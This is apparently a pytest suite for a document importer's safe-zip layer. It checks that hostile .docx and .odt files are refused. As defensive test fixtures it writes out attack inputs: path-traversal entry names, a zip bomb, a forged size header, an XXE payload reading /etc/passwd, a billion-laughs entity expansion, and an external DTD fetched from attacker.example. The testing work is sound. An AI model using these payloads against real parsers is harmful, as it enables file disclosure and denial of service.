"""Zip-based documents from hostile or broken sources: every trick becomes a ReaderError."""

from __future__ import annotations

import struct
import zipfile
from pathlib import Path

import pytest

from app.importers import safezip
from app.importers.base import ReaderError
from app.importers.docx_reader import read_docx
from app.importers.odt_reader import read_odt
from app.importers.safezip import open_zip, parse_xml

KIND = "Word document (.docx)"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx_with_document(path: Path, document: bytes | str) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", document)
    return path


def test_reads_members_and_closes(tmp_path: Path) -> None:
    path = tmp_path / "ok.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("a/b.xml", "<x>1</x>")
    with open_zip(path, KIND) as archive:
        assert archive.names() == ["a/b.xml"]
        assert "a/b.xml" in archive and "c" not in archive
        assert archive.read("a/b.xml") == b"<x>1</x>"
        assert archive.read_xml("a/b.xml").text == "1"
        with pytest.raises(ReaderError, match="the part c is missing"):
            archive.read("c")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "the file is empty"),
        (b"Interviewer: hallo\n", r"or it is damaged \(it is not a zip archive\)"),
        (b"{\\rtf1\\ansi hallo}", "it is an RTF file; rename it to .rtf"),
        (b"%PDF-1.7\n", "it is a PDF file"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old-style Office file"),
        (b'<?xml version="1.0"?><w:wordDocument/>', "XML/HTML text file"),
        (b"PK\x03\x04" + bytes(40), "or it is damaged"),
    ],
    ids=["empty", "text", "rtf", "pdf", "ole", "xml", "zip-header-only"],
)
def test_not_a_zip(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "interview.docx"
    path.write_bytes(content)
    with pytest.raises(ReaderError, match=message) as info:
        open_zip(path, KIND)
    assert str(info.value).startswith("interview.docx: is not a Word document (.docx)")


def test_missing_file_and_folder(tmp_path: Path) -> None:
    with pytest.raises(ReaderError, match="not found"):
        open_zip(tmp_path / "gone.docx", KIND)
    with pytest.raises(ReaderError, match="folder"):
        open_zip(tmp_path, KIND)


@pytest.mark.parametrize("name", ["../evil", "word/../../evil.xml", "/etc/passwd", "C:/Windows/evil", "..\\evil"])
def test_unsafe_entry_names(tmp_path: Path, name: str) -> None:
    path = tmp_path / "evil.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", f"<w:document {W}/>")
        archive.writestr(zipfile.ZipInfo(name), "pwned")
    with pytest.raises(ReaderError, match="unsafe entry name"):
        read_docx(path)


def test_too_many_entries(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safezip, "MAX_ENTRIES", 10)
    path = tmp_path / "many.docx"
    with zipfile.ZipFile(path, "w") as archive:
        for index in range(11):
            archive.writestr(f"part{index}.xml", "<x/>")
    with pytest.raises(ReaderError, match="11 entries"):
        open_zip(path, KIND)


def test_zip_bomb_docx(tmp_path: Path) -> None:
    """document.xml inflates to 210 MB from about 200 kB."""
    path = tmp_path / "bomb.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(f"<w:document {W}><w:body><w:p><w:r><w:t>".encode())
            chunk = b" " * (1 << 20)
            for _ in range(210):
                member.write(chunk)
    assert path.stat().st_size < 1_000_000
    with pytest.raises(ReaderError, match="zip bomb"):
        read_docx(path)


def test_total_size_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safezip, "MAX_TOTAL_UNCOMPRESSED", 10_000)
    path = tmp_path / "big.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a.bin", bytes(6000))
        archive.writestr("b.bin", bytes(6000))
    with pytest.raises(ReaderError, match="unpacks to more than 9 kB"):
        open_zip(path, KIND)


def test_compression_ratio_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safezip, "RATIO_MIN_SIZE", 1000)
    path = tmp_path / "ratio.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"a" * 200_000)  # about 1000:1
    with pytest.raises(ReaderError, match="compressed suspiciously well"):
        open_zip(path, KIND)


def test_member_read_cap_while_streaming(tmp_path: Path) -> None:
    path = tmp_path / "cap.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", bytes(range(256)) * 400)
    with open_zip(path, KIND) as archive:
        assert len(archive.read("word/document.xml", limit=102_400)) == 102_400
        with pytest.raises(ReaderError, match="is too large: the part word/document.xml unpacks to more than"):
            archive.read("word/document.xml", limit=102_399)


def test_lying_size_in_the_zip_directory(tmp_path: Path) -> None:
    """The directory claims 100 bytes; the data inflates to 5 MB. We never get more than was claimed."""
    path = tmp_path / "liar.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<a>" + b"x" * 5_000_000 + b"</a>")
    data = bytearray(path.read_bytes())
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, local + 22, 100)
    struct.pack_into("<I", data, central + 24, 100)
    path.write_bytes(bytes(data))
    with pytest.raises(ReaderError, match="liar.docx: is not a Word document .* or it is damaged"):
        read_docx(path)


def test_encrypted_member(tmp_path: Path) -> None:
    path = tmp_path / "secret.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", b"garbage")
    data = bytearray(path.read_bytes())  # set the "encrypted" flag as an encrypting zip tool does
    data[data.find(b"PK\x03\x04") + 6] |= 0x1
    data[data.find(b"PK\x01\x02") + 8] |= 0x1
    path.write_bytes(bytes(data))
    with pytest.raises(ReaderError, match="password-protected"):
        read_docx(path)


XXE = f"""<?xml version="1.0"?>
<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<w:document {W}><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"""

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<w:document {W}><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"""

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE w:document SYSTEM "http://attacker.example/evil.dtd">
<w:document {W}><w:body/></w:document>"""


@pytest.mark.parametrize("document", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"])
def test_xml_attacks_in_docx(tmp_path: Path, document: str) -> None:
    path = docx_with_document(tmp_path / "attack.docx", document)
    with pytest.raises(ReaderError, match="attack.docx: was refused: the part word/document.xml contains XML"):
        read_docx(path)


def test_xml_attack_in_odt(tmp_path: Path) -> None:
    path = tmp_path / "attack.odt"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", BILLION_LAUGHS)
    with pytest.raises(ReaderError, match="was refused"):
        read_odt(path)


def test_parse_xml_errors() -> None:
    with pytest.raises(ReaderError, match="x.docx: is damaged: the part p.xml is not well-formed XML"):
        parse_xml(b"<a><b></a>", "x.docx", "p.xml")
    with pytest.raises(ReaderError, match="not well-formed"):
        parse_xml(b"", "x.docx", "p.xml")
    with pytest.raises(ReaderError, match="not well-formed"):
        parse_xml(b'<?xml version="1.0" encoding="no-such-codec"?><a/>', "x.docx", "p.xml")
    assert parse_xml('<?xml version="1.0" encoding="UTF-16"?><a>ä</a>'.encode("utf-16"), "x", "p").text == "ä"
